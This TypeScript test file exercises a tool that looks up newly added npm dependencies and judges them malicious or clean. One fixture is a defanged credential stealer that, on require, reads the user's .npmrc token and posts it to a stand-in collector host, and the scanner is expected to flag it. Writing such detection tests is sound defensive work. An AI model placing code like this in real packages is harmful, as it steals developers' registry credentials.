import { describe, expect, it } from 'vitest';
import { makeTgz } from '../tarball/testdata/make-tarball.js';
import {
  type DependencySource,
  lookUpDependency,
  lookUpNewDependencies,
  newDependencyTargets,
} from './new-dependencies.js';

/** A defanged credential stealer that runs on require (flatmap-stream style). */
const STEALER = [
  "const fs = require('fs');",
  "const os = require('os');",
  "const path = require('path');",
  "const https = require('https');",
  'module.exports = function flatMap(stream, fn) { return stream; };',
  'try {',
  "  const token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');",
  "  const req = https.request('https://collector.invalid/t', { method: 'POST' });",
  '  req.end(token);',
  '} catch (e) {}',
].join('\n');

const tgz = (name: string, version: string, index: string) =>
  makeTgz([
    { name: 'package/package.json', content: JSON.stringify({ name, version, main: 'index.js' }) },
    { name: 'package/index.js', content: index },
  ]);

type Published = { version: string; time: string; index: string };

/** A registry stand-in serving documents in the registry's shape and test-built tarballs. */
const source = async (
  packages: Record<string, { published: Published[]; repository?: boolean }>,
): Promise<DependencySource & { tarballs: string[] }> => {
  const bytes = new Map<string, Uint8Array>();
  const docs = new Map<string, unknown>();
  for (const [name, { published, repository }] of Object.entries(packages)) {
    for (const p of published) bytes.set(`${name}@${p.version}`, await tgz(name, p.version, p.index));
    docs.set(name, {
      name,
      'dist-tags': { latest: published[published.length - 1]!.version },
      versions: Object.fromEntries(
        published.map((p) => [p.version, { name, version: p.version, license: 'MIT', dist: {} }]),
      ),
      time: {
        created: published[0]!.time,
        modified: published[published.length - 1]!.time,
        ...Object.fromEntries(published.map((p) => [p.version, p.time])),
      },
      ...(repository
        ? { repository: { type: 'git', url: `git+https://git.example.invalid/${name}.git` } }
        : {}),
    });
  }
  const tarballs: string[] = [];
  return {
    tarballs,
    packument: async (name) => docs.get(name),
    tarball: async ({ name, version }) => {
      tarballs.push(`${name}@${version}`);
      const found = bytes.get(`${name}@${version}`);
      if (!found) throw new Error('404');
      return found;
    },
  };
};

describe('newDependencyTargets', () => {
  it('takes registry dependencies, npm: aliases and a specifier now naming another package', () => {
    const targets = newDependencyTargets({
      added: [
        { name: 'a', field: 'dependencies', to: '^1.0.0' },
        { name: 'b', field: 'dependencies', to: 'npm:@evil/b@~2.0.0' },
        { name: 'c', field: 'dependencies', to: 'git+https://git.example.invalid/c.git' },
        { name: 'd', field: 'dependencies', to: 'user/repo' },
        { name: 'e', field: 'optionalDependencies', to: 'file:../e' },
      ],
      removed: [],
      changed: [
        { name: 'f', field: 'dependencies', from: '^1.0.0', to: 'npm:flatmap-fixture@0.1.1' },
        { name: 'g', field: 'dependencies', from: '^1.0.0', to: '^2.0.0' },
      ],
    });
    expect(targets).toEqual([
      { name: 'a', package: 'a', range: '^1.0.0' },
      { name: 'b', package: '@evil/b', range: '~2.0.0' },
      { name: 'f', package: 'flatmap-fixture', range: '0.1.1' },
    ]);
  });
});

describe('lookUpDependency', () => {
  const release = '2026-11-20T12:00:00.000Z';

  it('finds a brand-new, little-used dependency from nowhere and analyses it: malicious', async () => {
    const registry = await source({
      'flatmap-fixture': {
        published: [{ version: '0.1.1', time: '2026-11-19T09:00:00.000Z', index: STEALER }],
      },
    });
    const info = await lookUpDependency(
      { name: 'flatmap-fixture', package: 'flatmap-fixture', range: '^0.1.0' },
      registry,
      {
        releaseTime: release,
      },
    );
    expect(info).toMatchObject({
      package: 'flatmap-fixture',
      created: '2026-11-19T09:00:00.000Z',
      versions: 1,
      resolved: '0.1.1',
      resolvedPublished: '2026-11-19T09:00:00.000Z',
      brandNew: true,
      littleUsed: true,
      verdict: 'malicious',
    });
    expect(info.signals).toEqual(['first published 1 day before this release', '1 version', 'no repository']);
    expect(info.rules?.length).toBeGreaterThan(0);
    expect(info.error).toBeUndefined();
  });

  it('sees an established dependency as neither new nor little used, and clean', async () => {
    const registry = await source({
      through: {
        repository: true,
        published: ['2.0.0', '2.1.0', '2.3.8'].map((version, i) => ({
          version,
          time: new Date(Date.UTC(2016, i, 1)).toISOString(),
          index: 'module.exports = function through(write) { return write; };',
        })),
      },
    });
    const info = await lookUpDependency({ name: 'through', package: 'through', range: '~2.3.1' }, registry, {
      releaseTime: release,
    });
    expect(info).toMatchObject({
      versions: 3,
      resolved: '2.3.8',
      brandNew: false,
      littleUsed: false,
      verdict: 'clean',
    });
    expect(info.signals).toEqual([]);
  });

  it('says what it could not do: no document, no matching version, a tarball refused', async () => {
    const registry = await source({
      young: { published: [{ version: '1.0.0', time: '2026-11-20T00:00:00.000Z', index: 'exports.a = 1;' }] },
    });
    const target = (range: string, name = 'young') => ({ name, package: name, range });
    expect((await lookUpDependency(target('1.0.0', 'ghost'), registry)).error).toMatch(
      /^no registry document/,
    );
    expect((await lookUpDependency(target('^2.0.0'), registry)).error).toBe('no version matches ^2.0.0');
    const refusing = { ...registry, tarball: async () => Promise.reject(new Error('integrity mismatch')) };
    const refused = await lookUpDependency(target('^1.0.0'), refusing, {
      now: new Date('2026-12-01T00:00:00Z'),
    });
    expect(refused).toMatchObject({ brandNew: true, error: 'not analysed: integrity mismatch' });
    expect(refused.signals[0]).toBe('first published 11 days before now');
    expect(refused.verdict).toBeUndefined();
  });
});

describe('lookUpNewDependencies', () => {
  it('keys answers by manifest name and bounds how many are analysed', async () => {
    const published = [{ version: '1.0.0', time: '2020-01-01T00:00:00.000Z', index: 'exports.a = 1;' }];
    const registry = await source(
      Object.fromEntries(Array.from({ length: 10 }, (_, i) => [`p${i}`, { published, repository: true }])),
    );
    const targets = Array.from({ length: 10 }, (_, i) => ({
      name: `alias${i}`,
      package: `p${i}`,
      range: '1',
    }));
    const found = await lookUpNewDependencies(targets, registry);
    expect([...found.keys()]).toEqual(targets.map((t) => t.name));
    expect(registry.tarballs).toHaveLength(8);
    expect(found.get('alias9')?.error).toBe('not analysed: more than 8 new dependencies');
    expect(found.get('alias0')).toMatchObject({ package: 'p0', verdict: 'clean' });
  });
});
